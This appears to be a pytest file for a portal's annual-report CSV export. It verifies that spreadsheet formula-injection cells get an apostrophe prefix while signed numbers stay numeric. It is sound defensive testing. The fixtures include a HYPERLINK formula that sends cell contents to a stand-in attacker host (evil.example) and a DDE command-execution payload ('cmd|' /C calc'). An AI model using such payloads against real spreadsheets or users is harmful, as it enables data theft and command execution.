"""The annual report's CSV is safe to open in a spreadsheet: a cell that would run as a formula (a promise title the
Role Model Army typed starting with =) starts with an apostrophe, as the case export's cells do, through the one helper
both use (portal.csv_safe). A cell that is only a number, like a year-on-year change of +7 or -2, is left a number, so
a spreadsheet shows it as one and sums it."""

import csv
import io
import re
from datetime import UTC, datetime

from sqlalchemy import update

from portal.csv_safe import safe_cell
from portal.models import PledgeVersion
from tests.pledge.conftest import build_draft, sign_off_and_publish

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Help you learn")'


def report_cells(runner, tmp_path):
    """{(table, row label, column): value} of the 2025-26 report's CSV, as written."""
    result = runner.invoke(args=["annual-report", "2025-26", "--format", "csv", "--output", str(tmp_path / "r.csv")])
    assert result.exit_code == 0, result.output
    lines = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8"))))
    return {(table, row, column): value for _section, table, row, column, value in lines[2:]}


def test_report_csv_neutralises_a_formula_title_and_a_signed_change(known_year, build, runner, tmp_path, db_session):
    promises = [("A good education", FORMULA_TITLE, "We will help you learn at school.", "We help you at school.")]
    version_id = build(lambda people: sign_off_and_publish(build_draft(people, promises=promises)[0], people).id)
    # Published within 2025-26: the report shows the Pledge as it stood at the end of its year.
    published = datetime(2025, 6, 1, tzinfo=UTC)
    db_session.execute(update(PledgeVersion).where(PledgeVersion.id == version_id).values(published_at=published))
    db_session.commit()

    cells = report_cells(runner, tmp_path)

    # 12 complaints this year, 5 last year: the change is +7, a number a spreadsheet can add up (no apostrophe).
    assert cells[("The year at a glance", "Complaints", "Change")] == "+7"
    citing = [row for table, row, _column in cells if table == "Complaints citing each promise of the Pledge"]
    assert citing == ["'" + FORMULA_TITLE]
    # No cell anywhere in the file starts as a formula would, unless it is only a number.
    assert not [key for key, value in cells.items() if value[:1] in ("=", "+", "-", "@") and not is_number(value)]
    assert not [key for key in cells for part in key if part[:1] in ("=", "+", "-", "@")]


def is_number(value):
    return re.fullmatch(r"[+-]?\d+(\.\d+)?%?", value) is not None


def test_one_helper_makes_cells_safe_for_both_csvs():
    assert [safe_cell(v) for v in ("+8", "-6", "=1+1", "@SUM(A1)", "\tx", "8", "no change", 3, None)] == [
        "+8",
        "-6",
        "'=1+1",
        "'@SUM(A1)",
        "'\tx",
        "8",
        "no change",
        3,
        None,
    ]


def test_a_plain_number_stays_a_number_and_anything_more_is_neutralised():
    numbers = ["-2", "+8", "12.5", "-3%", "+0.5%", "-0"]
    assert [safe_cell(v) for v in numbers] == numbers
    # Each of these starts like a number but a spreadsheet would run it, or read it as something else.
    formulas = ["-2+3", "+8*2", "-1)", "-2 ", "- 2", "+1E5", "-2%%", "-", "+", "-.5", "-3,000", "-2\n=1", "+A1"]
    formulas.append("-cmd|' /C calc'!A0")
    assert [safe_cell(v) for v in formulas] == ["'" + v for v in formulas]
